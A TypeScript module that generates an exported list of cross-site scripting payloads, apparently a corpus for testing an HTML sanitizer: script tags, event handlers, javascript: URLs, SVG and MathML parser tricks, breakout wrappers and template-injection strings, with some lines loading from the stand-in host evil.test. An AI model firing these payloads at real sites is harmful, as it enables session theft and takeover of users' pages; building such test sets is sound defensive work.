/** Texts that would run something in a page that shows them as markup. */
const call = 'window.__xss=1';
const tags: string[] = [
  ...[`<script>${call}</script>`, `<script src=//evil.test></script>`, `<script/x>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`],
  ...[
    `<img src=x onerror=${call}>`,
    `<img/src=x/onerror=${call}>`,
    `<img srcset="x 1x, y 2x" onerror="${call}">`,
    `<image href=x onerror=${call}>`,
  ],
  ...[`<svg onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`],
  ...[
    `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg onload=${call}>"/></svg>`,
  ],
  ...[`<math><mi xlink:href="javascript:${call}">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`],
  ...[
    `<iframe srcdoc="<script>${call}</script>">`,
    `<iframe src=javascript:${call}>`,
    `<object data=javascript:${call}>`,
    `<embed src=javascript:${call}>`,
  ],
  ...[
    `<a href=javascript:${call}>x</a>`,
    `<a href="java\tscript:${call}">x</a>`,
    `<a href="java&#x0A;script:${call}">x</a>`,
    `<a href="&#106;avascript:${call}">x</a>`,
  ],
  ...[
    `<form action=javascript:${call}><button>x`,
    `<button formaction=javascript:${call}>x`,
    `<input autofocus onfocus=${call}>`,
    `<select autofocus onfocus=${call}>`,
  ],
  ...[
    `<body onload=${call}>`,
    `<details open ontoggle=${call}>`,
    `<marquee onstart=${call}>`,
    `<video><source onerror=${call}>`,
    `<audio src=x onerror=${call}>`,
  ],
  ...[
    `<style>@import "//evil.test";</style>`,
    `<style>*{background:url(javascript:${call})}</style>`,
    `<link rel=stylesheet href=//evil.test>`,
    `<base href=//evil.test>`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<p style="background:url(javascript:${call})">x</p>`,
    `<b onmouseover=${call}>x</b>`,
  ],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<template><img src=x onerror=${call}></template>`,
    `<textarea><img src=x onerror=${call}>`,
  ],
  ...[
    `<!--><img src=x onerror=${call}>-->`,
    `<![CDATA[><img src=x onerror=${call}>]]>`,
    `<?xml-stylesheet href="javascript:${call}"?>`,
    `<xmp><img src=x onerror=${call}></xmp>`,
  ],
  ...[
    `<isindex action=javascript:${call}>`,
    `<keygen autofocus onfocus=${call}>`,
    `<dialog open onclose=${call}>`,
    `<slot onslotchange=${call}>`,
    `<portal src=javascript:${call}>`,
  ],
];
const shapes: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"><b>${text}`,
  (text) => `'-->${text}`,
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];
const others = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '[[${7*7}]]',
  '\u202e<b>',
  'javascript:alert(1)//',
];

export const payloads: readonly string[] = [...tags.flatMap((text) => shapes.map((shape) => shape(text))), ...others];
